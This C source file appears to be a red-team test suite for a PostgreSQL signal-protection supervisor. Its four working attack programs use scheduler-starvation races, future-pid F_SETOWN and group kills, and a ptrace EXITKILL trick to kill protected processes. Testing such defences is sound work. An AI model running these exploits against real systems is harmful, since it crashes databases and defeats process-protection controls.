/*
 * r2.c - red-team review r2 attacker programs (issue 9).
 *   gcc -O2 -o r2 tests/attack/r2.c -lpthread
 *
 *   r2 supkill SUP SECONDS
 *     Any guarded user (not the cluster owner) kills its supervisor (uid
 *     pgkillguard, a process it may not signal).  A pidfd_send_signal to
 *     itself makes the supervisor start an acting thread with our real and
 *     effective uid; we find it in /proc/SUP/task (Uid line), make it
 *     SCHED_IDLE on a CPU full of our hogs (setscheduler/affinity only
 *     compare uid/euid), and kill(TID, SIGKILL) it in a loop.  While the
 *     thread is registered the supervisor refuses; after
 *     pgkg_actas_unregister() and before the thread exits, quick_pass()
 *     answers CONTINUE (comm is not a server) and the kernel checks
 *     the THREAD's credentials: SIGKILL takes the whole supervisor.
 *     Prints "supkill: kill(TID, SIGKILL) answered 0 ... supervisor DEAD" or "held".
 *
 *   r2 futureown SOCKET K ROUNDS
 *     The cluster owner (guarded) gives a socket an owner that does not
 *     exist yet: fcntl(fd, F_SETOWN, ns_last_pid+1+i) from K threads made
 *     SCHED_IDLE on a CPU full of hogs.  The supervisor judges the owner
 *     (no such process: not protected) and answers CONTINUE; the callers
 *     starve; K connections make the postmaster fork backends into those
 *     pids; the hogs pause and the kernel's f_setown() finds the backend.
 *     O_ASYNC and one byte from the peer then send SIGIO: crash-restart.
 *     Same window as R1-5, which the kill path now closes with ESRCH.
 *
 *   r2 futurepg SOCKET K ROUNDS
 *     The same with kill(-(ns_last_pid+1+i), SIGKILL): a process group that
 *     does not exist yet has no members, the sweep passes it (CONTINUE),
 *     and each new backend leads its own group (setsid) by the time the
 *     starved kill lands.
 *
 *   r2 exitkill PID
 *     PTRACE_SEIZE with PTRACE_O_EXITKILL (attaching is allowed with a
 *     warning), then exit: the kernel SIGKILLs the tracee.  No notified
 *     request carries a signal.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <pwd.h>
#include <stdint.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static pid_t sup;
static atomic_int stop;

static void pin(pid_t tid, int cpu)
{
	cpu_set_t s;
	CPU_ZERO(&s);
	CPU_SET(cpu, &s);
	sched_setaffinity(tid, sizeof(s), &s);
}

static void *hog(void *p)
{
	pin(0, 0);
	while (!atomic_load(&stop))
		;
	return NULL;
}

static void *gen(void *p)
{
	int fd = (int)syscall(SYS_pidfd_open, getpid(), 0);
	pin(0, 1);
	while (!atomic_load(&stop))
		syscall(SYS_pidfd_send_signal, fd, SIGURG, NULL, 0);
	return NULL;
}

static int uid_of(pid_t tid)
{
	char p[64], line[256];
	int uid = -1;
	snprintf(p, sizeof(p), "/proc/%d/task/%d/status", (int)sup, (int)tid);
	FILE *f = fopen(p, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, "Uid:", 4)) {
			uid = atoi(line + 5);
			break;
		}
	fclose(f);
	return uid;
}

/* gone, or a zombie (its parent has not reaped it yet) */
static int sup_dead(void)
{
	char p[64], buf[256];
	FILE *f;
	int dead = 1;
	snprintf(p, sizeof(p), "/proc/%d/stat", (int)sup);
	if ((f = fopen(p, "r"))) {
		if (fgets(buf, sizeof(buf), f)) {
			char *c = strrchr(buf, ')');
			dead = c && c[1] && (c[2] == 'Z' || c[2] == 'X');
		}
		fclose(f);
	}
	return dead;
}

static int supkill(int secs)
{
	pthread_t h[2], g;
	time_t end = time(NULL) + secs;
	long kills = 0;
	char p[64];
	struct sched_param sp = {0};

	setvbuf(stdout, NULL, _IONBF, 0);
	signal(SIGURG, SIG_IGN);
	for (int i = 0; i < 2; i++)
		pthread_create(&h[i], NULL, hog, NULL);
	pthread_create(&g, NULL, gen, NULL);
	pin(0, 1);
	snprintf(p, sizeof(p), "/proc/%d/task", (int)sup);
	while (time(NULL) < end) {
		DIR *d = opendir(p);
		struct dirent *e;
		if (!d) {
			printf("supkill: supervisor dead after %ld kills\n", kills);
			atomic_store(&stop, 1);
			return 0;
		}
		while ((e = readdir(d))) {
			pid_t tid = atoi(e->d_name);
			if (tid <= 0 || tid == sup || uid_of(tid) != (int)getuid())
				continue;
			pin(tid, 0);
			sched_setscheduler(tid, SCHED_IDLE, &sp);
			for (int i = 0; i < 2000; i++) {
				long r = syscall(SYS_kill, tid, SIGKILL);
				kills++;
				if (r == 0) {
					usleep(200000);
					printf("supkill: kill(%d, SIGKILL) answered 0 after %ld kills; "
					       "supervisor %s\n", (int)tid, kills,
					       sup_dead() ? "DEAD" : "alive");
					atomic_store(&stop, 1);
					return 0;
				}
				if (errno == ESRCH)
					break;
			}
		}
		closedir(d);
	}
	atomic_store(&stop, 1);
	printf("supkill: held (%ld kills refused)\n", kills);
	return 1;
}

/* ---- futureown ---- */

#define MAXK 64
static atomic_int go, hog_run = 1, hog_quit;
static pid_t want[MAXK];
static int sv[MAXK][2];
static volatile long ret[MAXK];
static pid_t setter_tid[MAXK];
static int group_kill;	/* futurepg: kill(-pid, SIGKILL) instead of F_SETOWN */

/* 'S' while the supervisor has not answered, 'R' answered and starving */
static char tstate(pid_t tid)
{
	char path[96], buf[512], st = '?';
	FILE *f;
	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", (int)tid);
	if ((f = fopen(path, "r"))) {
		if (fgets(buf, sizeof(buf), f)) {
			char *c = strrchr(buf, ')');
			if (c && c[1])
				st = c[2];
		}
		fclose(f);
	}
	return st;
}

static void *hog2(void *p)
{
	pin(0, 0);
	while (!atomic_load(&hog_quit))
		if (atomic_load(&hog_run))
			for (volatile int i = 0; i < 1000; i++)
				;
		else
			usleep(1000);
	return NULL;
}

static void *setter(void *p)
{
	long i = (long)p;
	struct sched_param sp = {0};

	setter_tid[i] = (pid_t)syscall(SYS_gettid);
	pin(0, 0);
	while (!atomic_load(&go))
		usleep(1000);
	sched_setscheduler(0, SCHED_IDLE, &sp);
	if (group_kill)
		ret[i] = syscall(SYS_kill, -want[i], SIGKILL) < 0 ? -errno : 0;
	else
		ret[i] = syscall(SYS_fcntl, sv[i][0], F_SETOWN, want[i]) < 0 ? -errno : 0;
	return NULL;
}

static long last_pid(void)
{
	long v = -1;
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "r");
	if (f) {
		if (fscanf(f, "%ld", &v) != 1)
			v = -1;
		fclose(f);
	}
	return v;
}

static int is_postgres(pid_t pid)
{
	char p[64], c[32] = "";
	FILE *f;
	snprintf(p, sizeof(p), "/proc/%d/comm", (int)pid);
	if (!(f = fopen(p, "r")))
		return 0;
	if (!fgets(c, sizeof(c), f))
		c[0] = 0;
	fclose(f);
	return !strncmp(c, "postgres", 8);
}

static int futureown_round(const char *sockpath, int k)
{
	pthread_t ts[MAXK];
	int socks[MAXK], hits = 0, ok = 0;

	atomic_store(&go, 0);
	for (int i = 0; i < k; i++) {
		ret[i] = 1;
		socketpair(AF_UNIX, SOCK_STREAM, 0, sv[i]);
	}
	for (long i = 0; i < k; i++)
		pthread_create(&ts[i], NULL, setter, (void *)i);
	usleep(50000);
	long cur = last_pid();
	for (int i = 0; i < k; i++)
		want[i] = (pid_t)(cur + 1 + i);
	atomic_store(&go, 1);
	usleep(20000);
	for (int w = 0; w < 300; w++) {	/* until every setter is answered */
		int waiting = 0;
		for (int i = 0; i < k; i++)
			waiting += ret[i] == 1 && tstate(setter_tid[i]) == 'S';
		if (!waiting)
			break;
		usleep(5000);
	}
	for (int i = 0; i < k; i++) {
		struct sockaddr_un sa = {.sun_family = AF_UNIX};
		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sockpath);
		socks[i] = socket(AF_UNIX, SOCK_STREAM, 0);
		connect(socks[i], (struct sockaddr *)&sa, sizeof(sa));
	}
	usleep(100000);	/* the postmaster forks */
	atomic_store(&hog_run, 0);	/* the starved calls land now */
	for (int i = 0; i < k; i++)
		pthread_join(ts[i], NULL);
	atomic_store(&hog_run, 1);
	for (int i = 0; i < k; i++) {
		int own = fcntl(sv[i][0], F_GETOWN);
		ok += ret[i] == 0;
		if (ret[i] == 0 && own > 0 && is_postgres(own)) {
			hits++;
			printf("futureown: socket %d owned by postgres pid %d: SIGIO\n", i, own);
			fcntl(sv[i][0], F_SETFL, fcntl(sv[i][0], F_GETFL) | O_ASYNC);
			(void)!write(sv[i][1], "x", 1);
		}
	}
	if (hits) {	/* the new backends block SIGIO until authenticated: log them in */
		char pkt[256];
		struct passwd *pw = getpwuid(getuid());
		int n = 8;
		memset(pkt, 0, sizeof(pkt));
		n += sprintf(pkt + n, "user") + 1;
		n += sprintf(pkt + n, "%s", pw ? pw->pw_name : "postgres") + 1;
		n += sprintf(pkt + n, "database") + 1;
		n += sprintf(pkt + n, "postgres") + 1;
		n += 1;
		uint32_t len = htonl((uint32_t)n), ver = htonl(196608);
		memcpy(pkt, &len, 4);
		memcpy(pkt + 4, &ver, 4);
		for (int i = 0; i < k; i++)
			(void)!write(socks[i], pkt, (size_t)n);
		usleep(300000);
		for (int i = 0; i < k; i++)
			if (ret[i] == 0)
				(void)!write(sv[i][1], "y", 1);
		usleep(300000);
	}
	if (group_kill) {
		for (int i = 0; i < k; i++)
			hits += ret[i] == 0;
		printf("futurepg: pids %ld..%ld, kill(-pid, SIGKILL) ok %d of %d\n", cur + 1, cur + k,
		       hits, k);
		for (int i = 0; i < k; i++) {
			close(socks[i]);
			close(sv[i][0]);
			close(sv[i][1]);
		}
		return hits;
	}
	printf("futureown: pids %ld..%ld, F_SETOWN ok %d of %d, owners now postgres %d\n",
	       cur + 1, cur + k, ok, k, hits);
	usleep(200000);
	for (int i = 0; i < k; i++) {
		close(socks[i]);
		close(sv[i][0]);
		close(sv[i][1]);
	}
	return hits;
}

static int futureown(const char *sockpath, int k, int rounds)
{
	pthread_t hogs[16];
	int hit = 0;

	if (k > MAXK)
		k = MAXK;
	for (int i = 0; i < 16; i++)
		pthread_create(&hogs[i], NULL, hog2, NULL);
	pin(0, 1);
	for (int r = 0; r < rounds && !hit; r++) {
		hit = futureown_round(sockpath, k);
		usleep(300000);
	}
	atomic_store(&hog_quit, 1);
	for (int i = 0; i < 16; i++)
		pthread_join(hogs[i], NULL);
	printf("%s: %s\n", group_kill ? "futurepg" : "futureown", hit ? (group_kill ? "a starved group kill landed" : "a backend got SIGIO") : "no hit");
	return !hit;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "supkill")) {
		sup = atoi(argv[2]);
		return supkill(atoi(argv[3]));
	}
	if (argc == 3 && !strcmp(argv[1], "exitkill")) {
		long r = syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, atoi(argv[2]), 0,
				 0x100000 /* PTRACE_O_EXITKILL */);
		printf("exitkill: seize %s\n", r == 0 ? "ok" : strerror(errno));
		return 0;	/* exit: the tracee gets SIGKILL */
	}
	if (argc == 5 && !strcmp(argv[1], "futurepg")) {
		group_kill = 1;
		return futureown(argv[2], atoi(argv[3]), atoi(argv[4]));
	}
	if (argc == 5 && !strcmp(argv[1], "futureown"))
		return futureown(argv[2], atoi(argv[3]), atoi(argv[4]));
	fprintf(stderr, "usage: r2 supkill SUP SECONDS\n");
	return 2;
}
